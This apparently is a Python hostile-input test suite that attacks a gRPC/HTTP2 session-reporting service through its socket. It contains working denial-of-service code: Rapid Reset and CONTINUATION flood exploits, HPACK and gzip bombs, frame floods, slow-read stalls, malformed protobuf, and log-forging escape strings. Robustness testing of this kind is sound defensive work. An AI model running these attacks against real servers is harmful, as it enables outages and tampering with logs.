"""What a compromised launcher pod can do with its socket, one attack a function.

An attack is an iterator: each step does a little and says how many of its units it did, so that one process can attack
several sockets by turns. None of them ever ends by itself.
"""

import gzip
import struct
import time
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path

from servicestatus.v1 import session_report_service_pb2 as pb
from servicestatus.v1 import sessions_pb2 as types
from tests.hostile import http2
from tests.hostile.http2 import Connection

Steps = Iterator[int]
Attack = Callable[[Path], Steps]

ATTACKS: dict[str, Attack] = {}


def attack(run: Attack) -> Attack:
    ATTACKS[run.__name__.replace("_", "-")] = run
    return run


# --- words ------------------------------------------------------------------------------------------------------------


def said(request: pb.ReportSessionsRequest) -> bytes:
    return http2.message(request.SerializeToString())


def hello(instance: str = "enemy", features: tuple[str, ...] = ("identified-sessions",)) -> bytes:
    return said(pb.ReportSessionsRequest(hello=pb.Hello(instance=instance, features=features)))


def snapshot(sequence: int, sessions: int = 1, **fields: object) -> bytes:
    vnc = types.ServiceSessions(service=types.SERVICE_VNC, sessions=sessions, **fields)  # type: ignore[arg-type]
    observation = types.Observation(observed=True, reason=types.OBSERVATION_REASON_WATCHING)
    return said(
        pb.ReportSessionsRequest(snapshot=pb.Snapshot(sequence=sequence, observation=observation, services=[vnc]))
    )


def delta(sequence: int, started: int, ended: int, sessions: int) -> bytes:
    vnc = pb.ServiceDelta(service=types.SERVICE_VNC, started=started, ended=ended, sessions=sessions)
    return said(pb.ReportSessionsRequest(delta=pb.Delta(sequence=sequence, services=[vnc])))


def heartbeat(sequence: int) -> bytes:
    return said(pb.ReportSessionsRequest(heartbeat=pb.Heartbeat(sequence=sequence)))


def streams(first: int = 1) -> Iterator[int]:
    """Numbers that a client may give to its streams."""
    while True:
        yield first
        first += 2


def again(path: Path, connection: Connection | None) -> Connection:
    """The connection, or another one where the peer has ended it."""
    if connection is not None and connection.alive:
        return connection
    if connection is not None:
        connection.close()
    return Connection(path)


def on_new_streams(path: Path, words: Callable[[int], bytes]) -> Steps:
    """Opens streams for ever, each with what `words` makes of its number, and reads what comes back."""
    connection, number = None, 1
    while True:
        if connection is None or not connection.alive:
            connection, number = again(path, connection), 1
        connection.send(http2.open_stream(number) + http2.data(number, words(number)))
        connection.drain()
        number += 2
        yield 1


# --- connections ------------------------------------------------------------------------------------------------------


@attack
def connection_flood(path: Path) -> Steps:
    """As many connections as it is given, held open; each has said what HTTP/2 begins with."""
    held: list[Connection] = []
    while True:
        held.append(Connection(path, patience=0.01))
        if len(held) > 200:
            held.pop(0).close()
        yield 1


@attack
def mute_connections(path: Path) -> Steps:
    """As many connections, that never say a byte."""
    held: list[Connection] = []
    while True:
        held.append(Connection(path, hello=b"", patience=0.01))
        if len(held) > 200:
            held.pop(0).close()
        yield 1


@attack
def connection_churn(path: Path) -> Steps:
    """A connection and its end, as fast as it can be."""
    while True:
        Connection(path, patience=0.01).close()
        yield 1


@attack
def garbage(path: Path) -> Steps:
    """HTTP/1, TLS and noise."""
    greetings = [
        b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n",
        bytes.fromhex("16030100c8010000c40303") + bytes(180),
        bytes(range(256)) * 64,
        http2.PREFACE + bytes(range(256)) * 64,
        http2.PREFACE + http2.settings() + http2.frame(0xFE, 0xFF, 7, bytes(1000)) * 10,
    ]
    for number in streams(0):
        connection = Connection(path, hello=greetings[number // 2 % len(greetings)], patience=0.01)
        connection.drain()
        connection.close()
        yield 1


@attack
def one_byte_at_a_time(path: Path) -> Steps:
    """A call, a byte at a time on each of many connections: each of them holds half a frame at any moment."""
    words = http2.open_stream(1) + http2.data(1, hello() + snapshot(1))
    held = [Connection(path, hello=http2.PREFACE + http2.settings(), patience=0.01) for _ in range(16)]
    while True:
        for byte in words:
            for connection in held:
                connection.send(bytes([byte]))
            yield len(held)
            time.sleep(0.01)


# --- HTTP/2 -----------------------------------------------------------------------------------------------------------


@attack
def rapid_reset(path: Path) -> Steps:
    """CVE-2023-44487: a call is opened and cancelled at once, thousands of times a second."""
    connection = None
    while True:
        connection = again(path, connection)
        for start in range(1, 2_000_000, 200):
            burst = [
                http2.open_stream(number) + http2.frame(http2.RST_STREAM, 0, number, struct.pack(">I", 8))
                for number in range(start, start + 200, 2)
            ]
            if not connection.send(b"".join(burst)):
                break
            connection.drain()
            yield 100
        yield 0


@attack
def rapid_hello(path: Path) -> Steps:
    """The same, with a Hello in between, so that the call reaches the program."""
    connection = None
    while True:
        connection = again(path, connection)
        for number in range(1, 2_000_000, 2):
            reset = http2.frame(http2.RST_STREAM, 0, number, struct.pack(">I", 8))
            if not connection.send(http2.open_stream(number) + http2.data(number, hello()) + reset):
                break
            connection.drain()
            yield 1
        yield 0


@attack
def ping_flood(path: Path) -> Steps:
    """PING without end; their answers are not read."""
    return _flood(path, http2.frame(http2.PING, payload=bytes(8)) * 1000, 1000)


@attack
def settings_flood(path: Path) -> Steps:
    """SETTINGS without end, each of which wants an answer; none is read."""
    return _flood(path, http2.settings((http2.INITIAL_WINDOW_SIZE, 0), (http2.MAX_FRAME_SIZE, 16_384)) * 1000, 1000)


@attack
def goaway_forgery(path: Path) -> Steps:
    """Farewells with words that would forge a line of a log, and clear the terminal that shows it."""
    words = b"\n2026-01-01T00:00:00.000Z INFO handler_service: forged\x1b[2J"
    connection = None
    while True:
        connection = again(path, connection)
        connection.send(http2.frame(http2.GOAWAY, payload=struct.pack(">II", 0, 2) + words))
        connection.drain()
        yield 1


@attack
def priority_flood(path: Path) -> Steps:
    """PRIORITY of streams that are not there."""
    frames = [http2.frame(http2.PRIORITY, 0, number, bytes(5)) for number in range(3, 2003, 2)]
    return _flood(path, b"".join(frames), 1000)


@attack
def empty_data_flood(path: Path) -> Steps:
    """DATA frames without a byte, on a stream that is open."""
    opening = http2.open_stream(1) + http2.data(1, hello())
    return _flood(path, http2.frame(http2.DATA, 0, 1) * 1000, 1000, opening)


def _flood(path: Path, frames: bytes, number: int, opening: bytes = b"") -> Steps:
    connection = None
    while True:
        if connection is None or not connection.alive:
            connection = again(path, connection)
            connection.send(opening)
        yield number if connection.send(frames) else 0


@attack
def huge_headers(path: Path) -> Steps:
    """A call whose headers are larger than any that is allowed, a megabyte at most."""
    connection = None
    for number in streams():
        connection = again(path, connection)
        block = http2.call(http2.METHOD, *((f"x-{i}".encode(), bytes([97]) * 16_000) for i in range(64)))
        parts = [block[start : start + 16_384] for start in range(0, len(block), 16_384)]
        sent = connection.send(http2.frame(http2.HEADERS, 0, number, parts[0]))
        for part in parts[1:-1]:
            sent = sent and connection.send(http2.frame(http2.CONTINUATION, 0, number, part))
        connection.send(http2.frame(http2.CONTINUATION, http2.END_HEADERS, number, parts[-1]))
        connection.drain()
        yield 1


@attack
def many_headers(path: Path) -> Steps:
    """A hundred thousand tiny headers in one call."""
    connection = None
    block = http2.call() + http2.header(b"a", b"") * 100_000
    parts = [block[start : start + 16_384] for start in range(0, len(block), 16_384)]
    for number in streams():
        connection = again(path, connection)
        connection.send(http2.frame(http2.HEADERS, 0, number, parts[0]))
        for part in parts[1:]:
            connection.send(http2.frame(http2.CONTINUATION, 0, number, part))
        connection.drain()
        yield 1


@attack
def continuation_flood(path: Path) -> Steps:
    """CVE-2024-27316 and its kin: a header block that never ends."""
    connection = None
    part = http2.frame(http2.CONTINUATION, 0, 1, http2.header(b"x-fill", bytes([97]) * 8_000))
    empty = http2.frame(http2.CONTINUATION, 0, 1) * 1000
    while True:
        connection = again(path, connection)
        connection.send(http2.frame(http2.HEADERS, 0, 1, http2.call()))
        while connection.send(part + empty):
            yield 1001
        yield 0


@attack
def header_table(path: Path) -> Steps:
    """Headers that are to be kept in the compression table of the connection, which may have at most 4 KiB."""
    connection = None
    size = b"\x3f\xe1\xff\x03"  # a table of 64 KiB + 30, which nobody has offered
    for number in streams():
        connection = again(path, connection)
        kept = b"".join(b"\x40" + http2.header(f"k{number}-{i}".encode(), bytes([97]) * 60)[1:] for i in range(90))
        connection.send(http2.open_stream(number, http2.call() + kept))
        connection.send(http2.frame(http2.RST_STREAM, 0, number, struct.pack(">I", 8)))
        if number % 50 == 1:
            connection.send(http2.open_stream(number + 2, size + http2.call()))
            connection.close()
            connection = None
        else:
            connection.drain()
        yield 1


@attack
def one_byte_headers(path: Path) -> Steps:
    """A thousand headers in a thousand bytes: each is a number in the table that HTTP/2 brings along."""

    def steps() -> Steps:
        connection, number = None, 1
        while True:
            if connection is None or not connection.alive:
                connection, number = again(path, connection), 1
            block = http2.call() + b"\x8f" * (1024 - len(http2.call()))
            connection.send(http2.open_stream(number, block) + http2.data(number, hello()))
            connection.drain()
            number += 2
            yield 1

    return steps()


@attack
def header_bomb(path: Path) -> Steps:
    """A large header is put into the table once, and named hundreds of times in each call after that."""
    while True:
        connection = Connection(path)
        kept = b"\x40" + http2.header(b"bomb", bytes([97]) * 600)[1:]
        connection.send(http2.open_stream(1, http2.call() + kept))
        for number in range(3, 60, 2):
            connection.send(http2.open_stream(number, http2.call() + b"\xbe" * 700))
            connection.drain()
            yield 1
        connection.close()


@attack
def one_byte_pieces(path: Path) -> Steps:
    """A large message in frames of one byte."""
    connection = None
    pieces = b"".join(http2.frame(http2.DATA, 0, 1, b"x") for _ in range(100))
    while True:
        connection = again(path, connection)
        connection.send(http2.open_stream(1) + http2.data(1, hello() + snapshot(1) + struct.pack(">BI", 0, 65_000)))
        while connection.send(pieces):
            connection.drain()
            yield 100
        yield 0


@attack
def window_tricks(path: Path) -> Steps:
    """Streams whose peer may never be sent a byte, and windows that grow beyond what a window may be."""
    opening = http2.PREFACE + http2.settings((http2.INITIAL_WINDOW_SIZE, 0))
    while True:
        connection = Connection(path, hello=opening)
        for number in (1, 3, 5, 7):
            connection.send(http2.open_stream(number) + http2.data(number, hello(f"enemy-{number}") + snapshot(number)))
            yield 1
        for sequence in range(8, 40):
            if not connection.send(http2.data(7, snapshot(sequence))):
                break
        time.sleep(0.05)
        grow = struct.pack(">I", 0x7FFFFFFF)
        connection.send(http2.frame(http2.WINDOW_UPDATE, 0, 7, struct.pack(">I", 1)) * 10)
        connection.send(
            http2.frame(http2.WINDOW_UPDATE, 0, 0, grow) * 2 + http2.frame(http2.WINDOW_UPDATE, 0, 7, grow) * 2
        )
        connection.drain()
        connection.close()
        yield 1


# --- products: cheap things, each on a connection of its own that is closed at once -----------------------------------

#: What the handler read at once when these were found: a kilobyte, forwarded before it was paid for.
FIRST_READ = 1024


@cache
def _first_read(*more: bytes) -> bytes:
    """The beginning of HTTP/2, and as many short calls as fit; `more` follows each of them.

    The first call leaves its headers in the table of the connection, so that each further one needs six bytes.
    """
    pairs = [(b":path", http2.METHOD.encode()), (b":authority", b"localhost"), (b"te", b"trailers")]
    pairs.append((b"content-type", b"application/grpc"))
    kept = b"".join(b"\x40" + http2.header(*pair)[1:] for pair in pairs)
    blocks = [b"\x83\x86" + kept, b"\x83\x86" + bytes(range(0x80 + 65, 0x80 + 61, -1))]
    read = http2.PREFACE + http2.settings()
    for number in streams():
        call = http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, number, blocks[number > 1])
        call += b"".join(http2.frame(http2.RST_STREAM, 0, number, one) for one in more)
        if len(read) + len(call) > FIRST_READ:
            break
        read += call
    return read


def _churn(path: Path, words: bytes) -> Steps:
    while True:
        connection = Connection(path, hello=words, patience=0.002)
        connection.close()
        yield 1


@attack
def calls_and_churn(path: Path) -> Steps:
    """Forty-six calls in the first kilobyte of each connection."""
    return _churn(path, _first_read())


@attack
def resets_and_churn(path: Path) -> Steps:
    """The same, and each call is cancelled."""
    return _churn(path, _first_read(struct.pack(">I", 8)))


@attack
def settings_and_churn(path: Path) -> Steps:
    """As many SETTINGS as fit, each of which wants an answer."""
    return _churn(path, (http2.PREFACE + http2.settings((http2.INITIAL_WINDOW_SIZE, 0)) * 100)[:FIRST_READ])


@attack
def pings_and_churn(path: Path) -> Steps:
    """The same of PING."""
    return _churn(
        path, (http2.PREFACE + http2.settings() + http2.frame(http2.PING, payload=bytes(8)) * 100)[:FIRST_READ]
    )


@attack
def hellos_and_churn(path: Path) -> Steps:
    """A whole stream of the protocol on each connection, as if the agent had just been started."""
    return _churn(path, http2.PREFACE + http2.settings() + http2.open_stream(1) + http2.data(1, hello() + snapshot(1)))


@attack
def few_calls_at_a_time(path: Path) -> Steps:
    """Seven short calls in each read, which is as many as are let through, on connections that stay open."""
    call = http2.call()
    connection = None
    while True:
        connection = again(path, connection)
        for first in range(1, 100_000, 14):
            numbers = range(first, first + 14, 2)
            end = http2.END_HEADERS | http2.END_STREAM
            if not connection.send(b"".join(http2.frame(http2.HEADERS, end, number, call) for number in numbers)):
                break
            connection.drain()
            yield 7
        yield 0


# --- gRPC -------------------------------------------------------------------------------------------------------------


@attack
def stream_flood(path: Path) -> Steps:
    """A thousand calls on a connection, all kept open, none of which says a word."""
    connection = None
    while True:
        connection = again(path, connection)
        for number in range(1, 2001, 2):
            if not connection.send(http2.open_stream(number)):
                break
            yield 1
        connection.drain()
        yield 0


@attack
def all_streams_and_connections(path: Path) -> Steps:
    """As many streams on as many connections as are let in, each with half of the largest message."""
    half = http2.message(bytes(64_000))[:60_000]
    held: list[Connection] = []
    while True:
        held.append(Connection(path, patience=0.01))
        for number in range(1, 17, 2):
            held[-1].send(http2.open_stream(number) + http2.data(number, half))
        if len(held) > 16:
            held.pop(0).close()
        yield 8


@attack
def unknown_methods(path: Path) -> Steps:
    """Calls of what is not served."""
    connection, number = None, 1
    while True:
        if connection is None or not connection.alive:
            connection, number = again(path, connection), 1
        method = f"/servicestatus.v{number}.SessionReportService/ReportSessions" + "x" * 500
        connection.send(http2.open_stream(number, http2.call(method)))
        connection.drain()
        number += 2
        yield 1


@attack
def giant_message(path: Path) -> Steps:
    """A message that says to have four gigabytes, and as much of it as is taken."""
    connection = None
    while True:
        connection = again(path, connection)
        connection.send(http2.open_stream(1) + http2.data(1, struct.pack(">BI", 0, 0xFFFFFFFF)))
        while connection.send(http2.data(1, bytes(65_536))):
            connection.drain()
            yield 1
        connection.close()
        yield 1


@cache
def _bomb() -> bytes:
    return http2.message(gzip.compress(bytes(60 * 1024 * 1024), compresslevel=1), compressed=True)


@attack
def gzip_bomb(path: Path) -> Steps:
    """64 KiB that become 64 MiB when they are unpacked."""
    bomb = _bomb()
    block = http2.call(http2.METHOD, (b"grpc-encoding", b"gzip"))
    connection, number = None, 1
    while True:
        if connection is None or not connection.alive:
            connection, number = again(path, connection), 1
        connection.send(http2.open_stream(number, block) + http2.data(number, bomb))
        connection.drain()
        number += 2
        yield 1


@attack
def half_messages(path: Path) -> Steps:
    """Messages of which the last byte never comes, on every stream that may be open."""
    held = [Connection(path, patience=0.01) for _ in range(4)]
    part = http2.message(bytes(65_000))[:-1]
    while True:
        for connection in held:
            for number in range(1, 16, 2):
                connection.send(http2.open_stream(number) + http2.data(number, part))
                yield 1
        time.sleep(0.05)
        yield 0


@attack
def never_reading(path: Path) -> Steps:
    """A stream that makes the handler answer at each message, and reads nothing, ever."""
    held: list[Connection] = []
    while True:
        connection = Connection(path, patience=0.02)
        held.append(connection)
        connection.send(http2.open_stream(1) + http2.data(1, hello() + snapshot(1)))
        sequence = 1
        while connection.alive and sequence < 60:
            sequence += 1
            connection.send(http2.data(1, snapshot(sequence, sequence % 3)))
            yield 1
            time.sleep(0.01)
        if len(held) > 4:
            held.pop(0).close()
        yield 0


@attack
def reading_slowly(path: Path) -> Steps:
    """The same, and now and then it reads one byte."""
    connection = None
    sequence = 0
    while True:
        if connection is None or not connection.alive:
            connection, sequence = again(path, connection), 1
            connection.send(http2.open_stream(1) + http2.data(1, hello() + snapshot(1)))
        sequence += 1
        connection.send(http2.data(1, snapshot(sequence, sequence % 3)))
        if sequence % 10 == 0:
            connection.receive(1)
        time.sleep(0.03)
        yield 1


# --- the protocol -----------------------------------------------------------------------------------------------------


@attack
def message_flood(path: Path) -> Steps:
    """Heartbeats as fast as they are taken; again on a new stream as soon as that one has ended."""
    flood = http2.data(1, heartbeat(1) * 500)
    while True:
        connection = Connection(path)
        connection.send(http2.open_stream(1) + http2.data(1, hello() + snapshot(1)))
        for _ in range(20):
            connection.send(flood)
            connection.drain()
            yield 500
        connection.close()


@attack
def hello_flood(path: Path) -> Steps:
    """Each stream supersedes the one before."""
    return on_new_streams(path, lambda number: hello(f"enemy-{number}") + snapshot(1))


@attack
def sequence_jumps(path: Path) -> Steps:
    """Sequences from the end of the numbers, backwards and twice: each asks for a resync, and none gets far."""
    high = 2**64 - 1
    jumps = [
        delta(high, 1, 0, 1),
        heartbeat(high),
        snapshot(high),
        delta(0, 0, 0, 0),
        snapshot(1),
        delta(high, 1, 0, 2),
    ]

    def words(number: int) -> bytes:
        return hello() + snapshot(5) + jumps[number // 2 % len(jumps)] + b"".join(jumps)

    return on_new_streams(path, words)


@attack
def resync_storm(path: Path) -> Steps:
    """Snapshots and deltas that never add up, at the rate that a socket has."""
    connection, sequence = None, 0
    while True:
        if connection is None or not connection.alive:
            connection, sequence = again(path, connection), 1
            connection.send(http2.open_stream(1) + http2.data(1, hello() + snapshot(1)))
        connection.send(http2.data(1, delta(sequence + 1, 7, 0, 1) + snapshot(sequence + 1)))
        sequence += 1
        connection.drain()
        time.sleep(0.055)
        yield 2


@attack
def million_sessions(path: Path) -> Steps:
    """A million at once, a million by their peers, a million one after the other."""
    most = types.IdentifiedSession(id=1, peer_address="a" * 64, peer_port=65_535, transport=types.TRANSPORT_TCP)

    def peers(start: int, count: int) -> list[types.IdentifiedSession]:
        many = [types.IdentifiedSession() for _ in range(count)]
        for number, one in enumerate(many):
            one.CopyFrom(most)
            one.id = start + number + 1
        return many

    words = [
        snapshot(1, 1_000_000),
        snapshot(1, 4_294_967_295),
        snapshot(1, 65_535),
        snapshot(1, 65_535, identified=peers(0, 700)),
        snapshot(1, 65_535, identified=peers(0, 256)),
        snapshot(1, 1) + delta(2, 4_294_967_295, 4_294_967_295, 1),
        b"".join(snapshot(1 + turn, 256, identified=peers(turn * 256, 256)) for turn in range(4)),
    ]
    return on_new_streams(path, lambda number: hello() + words[number // 2 % len(words)])


@attack
def giant_strings(path: Path) -> Steps:
    """As long as a message may be, in each field that takes a text."""
    giant = "\N{PILE OF POO}" * 15_000

    def words(number: int) -> bytes:
        return [
            hello(giant),
            said(pb.ReportSessionsRequest(hello=pb.Hello(instance="a", agent_version=giant))),
            hello(features=(giant,)),
            hello(features=tuple(f"feature-{i}" for i in range(5000))),
            said(pb.ReportSessionsRequest(hello=pb.Hello(instance="a", vmi=types.VmiReference(name=giant)))),
            hello() + _observing(giant),
        ][number // 2 % 6]

    return on_new_streams(path, words)


def _observing(text: str) -> bytes:
    seen = types.Observation(observed=False, reason=types.OBSERVATION_REASON_LIBVIRT_UNREACHABLE, message=text)
    return said(pb.ReportSessionsRequest(snapshot=pb.Snapshot(sequence=1, observation=seen)))


@attack
def broken_utf8(path: Path) -> Steps:
    """Strings that are none, and messages that are none."""
    bodies = [
        b"\x0a\x04\x0a\x02\xff\xfe",  # Hello.instance
        b"\x0a\x08\x0a\x01a\x12\x03\xed\xa0\x80",  # Hello.agent_version, half a surrogate pair
        bytes(range(256)),
        b"\x0a\xff\xff\xff\xff\x0f",
        b"\xff" * 20,
        b"\x0b" * 60_000,  # groups within groups
        b"\x0a\x04\x22\x02\x0a\x80",
    ]
    return on_new_streams(path, lambda number: http2.message(bodies[number // 2 % len(bodies)]))


@attack
def another_vmi(path: Path) -> Steps:
    """Claims to be the neighbour, or whoever it likes, with what would forge a line of a log."""
    names = ["neighbour", "x" * 253, "a\nWARNING forged", "\x1b[2Jb", "\u202eevil"]

    def words(number: int) -> bytes:
        claim = types.VmiReference(namespace="default", name=f"{names[number // 2 % 5]}"[:200] + str(number))
        return said(pb.ReportSessionsRequest(hello=pb.Hello(instance="a", vmi=claim))) + snapshot(1, 99)

    return on_new_streams(path, words)
